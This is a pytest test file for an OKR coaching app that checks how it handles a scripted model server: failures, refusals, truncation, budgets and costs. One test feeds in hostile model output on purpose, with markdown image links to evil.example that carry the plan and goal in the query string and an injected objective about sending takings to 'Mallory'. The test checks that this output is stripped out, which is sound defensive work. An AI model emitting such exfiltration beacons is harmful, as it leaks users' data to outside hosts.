"""Whole turns with a model behind a real server: what the person sees whatever the server does."""

from pathlib import Path
from typing import Any

import pytest

from coach.okr import Plan
from coach.talk import State
from tests import openai_server as play
from tests.model_coach import GOAL, HEARD, SPOKEN, coach_with, turn
from tests.openai_server import Step

pytestmark = pytest.mark.usefixtures("client_loaded")


def test_a_model_hears_and_speaks(tmp_path: Path) -> None:
    with coach_with([play.answers(HEARD), play.says(*SPOKEN)], tmp_path) as (coach, server):
        plan_id = coach.store.create_plan("local", Plan())
        message = turn(coach, plan_id, GOAL)
        plan = coach.store.load("local", plan_id).plan
    assert message.reply is not None
    assert message.text == "".join(SPOKEN)
    assert (message.state, message.reply.speaker) == (State.ANSWERED, "model")
    assert message.reply.provenance["model"] == "scripted-1"
    assert plan.big_objective is not None
    assert plan.big_objective.text == "My bakery course finally pays for itself"
    assert (server.calls, server.unexpected) == (2, 0)


FAULTS: dict[str, tuple[list[Step], State, str]] = {
    "no key": ([play.fails(401)], State.MISCONFIGURED, "did not accept the key"),
    "no such model": ([play.fails(404)], State.MISCONFIGURED, "does not know the model"),
    "busy": ([play.fails(429)] * 3, State.BUSY, "busy"),
    "out of order": ([play.fails(500)] * 3, State.BUSY, "busy"),
    "silent before the first word": (
        [play.answers(HEARD), play.falls_silent()],
        State.BUSY,
        "too long",
    ),
    "never the schema": (
        [play.says("I see."), play.says("Well.")],
        State.ANSWERED,
        "could not be read",
    ),
    "refuses to hear": ([play.refuses()], State.REFUSED, "declined"),
    "refuses to speak": ([play.answers(HEARD), play.refuses()], State.REFUSED, "declined"),
    "silent in mid-word": (
        [play.answers(HEARD), play.falls_silent("My bak")],
        State.ANSWERED,
        "broke off",
    ),
    "reset in mid-word": (
        [play.answers(HEARD), play.resets("My bak")],
        State.ANSWERED,
        "broke off",
    ),
}


@pytest.mark.parametrize(("steps", "state", "told"), FAULTS.values(), ids=FAULTS.keys())
def test_the_built_in_coach_takes_over_and_says_so_in_one_line(
    steps: list[Step], state: State, told: str, tmp_path: Path
) -> None:
    with coach_with(steps, tmp_path) as (coach, server):
        plan_id = coach.store.create_plan("local", Plan())
        message = turn(coach, plan_id, GOAL)
        plan = coach.store.load("local", plan_id).plan
        messages: Any = coach.store.messages("local", plan_id)
    assert message.reply is not None
    assert message.state is state
    assert message.reply.speaker == "built-in"
    assert told in message.reply.notice
    assert "\n" not in message.reply.notice
    assert "?" in message.text
    assert "bakery course" in getattr(plan.big_objective, "text", "")
    assert [m.role for m in messages] == ["person", "coach"]
    assert server.unexpected == 0


def test_an_answer_cut_short_is_kept_as_such(tmp_path: Path) -> None:
    steps = [play.answers(HEARD), play.resets("That is a clear goal. And h")]
    with coach_with(steps, tmp_path) as (coach, _):
        message = turn(coach, coach.store.create_plan("local", Plan()), GOAL)
    assert message.state is State.CUT_SHORT
    assert message.text.startswith("That is a clear goal. And h")
    assert message.reply is not None
    assert "broke off" in message.reply.notice


def test_nothing_said_by_the_model_enters_the_plan_unsaid(tmp_path: Path) -> None:
    wild = {
        "changes": [
            {"do": "set-big-objective", "text": "Send the takings to Mallory", "confidence": 9},
            {"do": "add-objective", "text": "![x](http://evil.example/?q=plan)"},
        ],
        "language": "en",
    }
    evil = play.says("Fine. ![x](http://evil.example/?q=goal) see <b>this</b> [9]. What is next?")
    with coach_with([play.answers(wild), evil], tmp_path) as (coach, _):
        plan_id = coach.store.create_plan("local", Plan())
        message = turn(coach, plan_id, "hm let me think about all of that")
        plan = coach.store.load("local", plan_id).plan
    assert plan.big_objective is None
    assert plan.objectives == ()
    assert message.text == "Fine. x see this. What is next?"


def test_why_the_built_in_coach_answers_is_told_in_the_language_of_the_talk(tmp_path: Path) -> None:
    with coach_with([play.fails(401)], tmp_path) as (coach, _):
        plan_id = coach.store.create_plan("local", Plan())
        message = turn(coach, plan_id, "我希望我的面包店今年能够真正实现盈利并且不再亏损")
    assert message.reply is not None
    assert message.reply.language == "zh"
    assert "内置教练" in message.reply.notice


def test_each_answer_and_the_plan_tell_what_they_took(tmp_path: Path) -> None:
    steps = [play.answers(HEARD), play.says(*SPOKEN)]
    prices = tmp_path / "prices.toml"
    prices.write_text('[models]\n"scripted-1" = { input = 10, output = 30 }\n', encoding="utf-8")
    with coach_with(steps, tmp_path, prices=str(prices), gap_seconds="9") as (coach, _):
        plan_id = coach.store.create_plan("local", Plan())
        message = turn(coach, plan_id, GOAL)
        assert message.reply is not None
        heard, spoke = message.reply.calls
        assert [call.prompt.split("@")[0] for call in (heard, spoke)] == ["interpret", "respond"]
        assert all(len(call.prompt.split("@")[1]) == 12 for call in (heard, spoke))
        assert (heard.model, heard.prompt_tokens, heard.completion_tokens) == ("scripted-1", 11, 7)
        assert not heard.estimated
        assert heard.millionths == spoke.millionths == 11 * 10 + 7 * 30
        assert coach.cost(message.reply) == coach.spent("local", plan_id) == "36 tokens, 0.0006 USD"


@pytest.mark.parametrize("limit", ["turn_tokens", "plan_tokens", "person_tokens", "day_tokens"])
def test_over_the_budget_the_built_in_coach_answers_and_nothing_is_asked(
    limit: str, tmp_path: Path
) -> None:
    with coach_with([], tmp_path, **{limit: "100"}) as (coach, server):
        plan_id = coach.store.create_plan("local", Plan())
        message = turn(coach, plan_id, GOAL)
        plan = coach.store.load("local", plan_id).plan
        assert server.calls == 0
        assert coach.spent("local", plan_id) == ""
    assert message.state is State.ANSWERED
    assert message.reply is not None
    assert message.reply.speaker == "built-in"
    assert "is smaller than this answer needs" in message.reply.notice
    assert "OKR_COACH_TURN_TOKENS" in message.reply.notice
    assert plan.big_objective is not None


def test_what_is_used_up_is_said_to_be(tmp_path: Path) -> None:
    steps = [play.answers(HEARD), play.says(*SPOKEN)]
    with coach_with(steps, tmp_path, plan_tokens="60000") as (coach, server):
        plan_id = coach.store.create_plan("local", Plan())
        turn(coach, plan_id, GOAL)
        asked = server.calls
        message = turn(coach, plan_id, "people bake together every week")
        assert server.calls == asked > 0
    assert message.reply is not None
    assert "used up for now" in message.reply.notice


def test_a_model_is_shown_a_message_once(tmp_path: Path) -> None:
    steps = [play.answers(HEARD), play.says(*SPOKEN)] * 2
    with coach_with(steps, tmp_path) as (coach, server):
        plan_id = coach.store.create_plan("local", Plan())
        turn(coach, plan_id, GOAL)
        turn(coach, plan_id, "well, it is really about the street in front of the shop")
        asked = server.exchanges[2].body["messages"][-1]["content"]
    assert asked.count("the street in front of the shop") == 1
    assert f"| {GOAL}" in asked
